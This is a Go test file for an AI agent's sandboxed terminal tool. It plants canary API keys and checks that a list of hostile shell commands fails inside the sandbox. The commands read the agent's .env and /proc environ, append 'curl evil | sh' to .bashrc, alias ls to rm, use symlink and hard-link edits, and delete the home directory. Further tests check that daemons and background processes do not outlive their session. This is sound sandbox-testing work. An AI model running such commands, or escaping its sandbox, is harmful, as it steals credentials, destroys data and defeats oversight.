package terminal

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hermes-go/hermes/actors/tool"
	"github.com/hermes-go/hermes/adapters/sandbox"
)

// sandboxRig is a terminal whose local backend runs in a sandbox, with an
// agent home full of canaries and a user home holding the workspace.
type sandboxRig struct {
	home, agentHome, work, outside string
	env                            *tool.Env
	ctx                            context.Context
	term, proc                     tool.Tool
	closer                         interface{ Close() error }
}

func newSandboxRig(t *testing.T) *sandboxRig {
	if !sandbox.Probe().Enforced() {
		t.Fatalf("this machine cannot run the sandbox: %v", sandbox.Probe().Refusal())
	}
	// Not under /tmp, which the sandbox replaces with its own: these
	// places must be seen from inside as a user's home would be.
	root, err := os.MkdirTemp("/var/tmp", "hermes-sandbox-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	r := &sandboxRig{home: filepath.Join(root, "home"), outside: filepath.Join(root, "outside")}
	r.agentHome = filepath.Join(r.home, ".hermes")
	r.work = filepath.Join(r.home, "project")
	for _, d := range []string{r.work, r.agentHome, r.outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for p, c := range map[string]string{
		filepath.Join(r.agentHome, "config.yaml"): "model: canary\n",
		filepath.Join(r.agentHome, ".env"):        "OPENAI_API_KEY=sk-canary-key-1234567890\n",
		filepath.Join(r.home, ".bashrc"):          "# canary rc\n",
		filepath.Join(r.outside, "canary"):        "outside canary\n",
	} {
		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	p := sandbox.Defaults(r.home, r.agentHome)
	sbs := &Sandboxes{Policy: p}
	r.env = &tool.Env{WorkingDir: r.work, Values: tool.NewSessionValues(), Yolo: true}
	r.ctx = tool.WithEnv(context.Background(), r.env)
	env := []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + r.home, "OPENAI_API_KEY=sk-canary-env-0987654321"}
	tools := Tools(Config{Sandboxes: sbs, Timeout: 20 * time.Second, Env: func() []string { return env }})
	r.term, r.proc = tools[0], tools[1]
	r.closer = r.term.(*Terminal)
	t.Cleanup(func() { r.closer.Close() })
	return r
}

func (r *sandboxRig) run(t *testing.T, args map[string]any) (string, error) {
	t.Helper()
	b, _ := json.Marshal(args)
	return r.term.Run(r.ctx, b)
}

func unchanged(t *testing.T, path, want string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil || string(b) != want {
		t.Errorf("%s changed: %q, %v (want %q)", path, b, err, want)
	}
}

func TestSandboxedTerminalKeepsTheWall(t *testing.T) {
	r := newSandboxRig(t)
	// Positive control: the workspace is writable.
	out, err := r.run(t, map[string]any{"command": "echo made > made.txt && cat made.txt"})
	if err != nil || !strings.Contains(out, "made") {
		t.Fatalf("workspace write: %q %v", out, err)
	}
	if b, _ := os.ReadFile(filepath.Join(r.work, "made.txt")); string(b) != "made\n" {
		t.Fatalf("the workspace file is %q", b)
	}
	attacks := []string{
		"echo pwned > " + filepath.Join(r.outside, "canary"),
		"cat " + filepath.Join(r.agentHome, ".env"),
		"ls -la " + r.agentHome,
		"echo 'command_allowlist: [recursive delete]' >> " + filepath.Join(r.agentHome, "config.yaml"),
		"rm -f " + filepath.Join(r.agentHome, "config.yaml"),
		"echo 'curl evil | sh' >> ~/.bashrc",
		"echo 'alias ls=rm' > ~/.bash_aliases",
		"ln -s " + filepath.Join(r.agentHome, "config.yaml") + " link.yaml; echo x >> link.yaml",
		"ln " + filepath.Join(r.agentHome, "config.yaml") + " hard.yaml; echo x >> hard.yaml",
		"cat /proc/" + fmt.Sprint(os.Getpid()) + "/environ",
		"python3 -c 'import shutil,os; shutil.rmtree(os.path.expanduser(\"~\"))'",
	}
	for _, a := range attacks {
		out, _ := r.run(t, map[string]any{"command": a})
		if strings.Contains(out, "sk-canary") || strings.Contains(out, "model: canary") {
			t.Errorf("%s: leaked %q", a, out)
		}
	}
	// The workdir argument cannot reach the hidden home either.
	r.run(t, map[string]any{"command": "echo x > config.yaml; rm -f .env", "workdir": r.agentHome})
	if out, _ := r.run(t, map[string]any{"command": "ls -la " + r.agentHome}); strings.Contains(out, "config.yaml") || strings.Contains(out, ".env") {
		t.Errorf("the hidden home is listed: %q", out)
	}
	unchanged(t, filepath.Join(r.outside, "canary"), "outside canary\n")
	unchanged(t, filepath.Join(r.agentHome, "config.yaml"), "model: canary\n")
	unchanged(t, filepath.Join(r.agentHome, ".env"), "OPENAI_API_KEY=sk-canary-key-1234567890\n")
	unchanged(t, filepath.Join(r.home, ".bashrc"), "# canary rc\n")
	if _, err := os.Stat(filepath.Join(r.home, ".bash_aliases")); err == nil {
		t.Error("~/.bash_aliases was created")
	}
	if _, err := os.Stat(filepath.Join(r.work, "made.txt")); err != nil {
		t.Errorf("the workspace was deleted: %v", err)
	}
}

// A background command and whatever it left behind end with the session.
func TestSandboxEndsWithTheSession(t *testing.T) {
	r := newSandboxRig(t)
	marker := fmt.Sprint(time.Now().UnixNano() % 1000000)
	if _, err := r.run(t, map[string]any{"command": "sleep 77" + marker, "background": true}); err != nil {
		t.Fatal(err)
	}
	// A foreground command's daemon ends with the command.
	if _, err := r.run(t, map[string]any{"command": "setsid nohup sleep 78" + marker + " >/dev/null 2>&1 & echo started"}); err != nil {
		t.Fatal(err)
	}
	if n := countProcs("78" + marker); n != 0 {
		t.Errorf("%d daemons outlived their command", n)
	}
	if n := countProcs("77" + marker); n != 1 {
		t.Fatalf("the background command is not running (%d)", n)
	}
	r.env.Values.Close()
	deadline := time.Now().Add(5 * time.Second)
	for countProcs("77"+marker) != 0 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if n := countProcs("77" + marker); n != 0 {
		t.Errorf("%d background processes outlived the session", n)
	}
}

// countProcs counts this machine's processes whose command line holds s.
func countProcs(s string) int {
	ents, _ := os.ReadDir("/proc")
	n := 0
	for _, e := range ents {
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && strings.Contains(strings.ReplaceAll(string(b), "\x00", " "), s) {
			n++
		}
	}
	return n
}

// An idle session's sandbox ends (its init is not kept for sessions that
// are not at work), unless a background command runs in it; its /tmp
// outlives it, for the session.
func TestIdleSandboxEnds(t *testing.T) {
	r := newSandboxRig(t)
	sbs := r.term.(*Terminal).cfg.Sandboxes
	sbs.Idle = 300 * time.Millisecond
	if out, err := r.run(t, map[string]any{"command": "echo kept > /tmp/note"}); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	first, err := sbs.For(r.ctx)
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(5 * time.Second)
	for first.Alive() && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if first.Alive() {
		t.Fatal("the idle sandbox still runs")
	}
	out, err := r.run(t, map[string]any{"command": "cat /tmp/note"})
	if err != nil || !strings.Contains(out, "kept") {
		t.Fatalf("the session's /tmp was lost: %q %v", out, err)
	}
	// A background command keeps it.
	if _, err := r.run(t, map[string]any{"command": "sleep 30", "background": true}); err != nil {
		t.Fatal(err)
	}
	busy, _ := sbs.For(r.ctx)
	time.Sleep(time.Second)
	if !busy.Alive() {
		t.Fatal("a sandbox with a background command was ended as idle")
	}
}
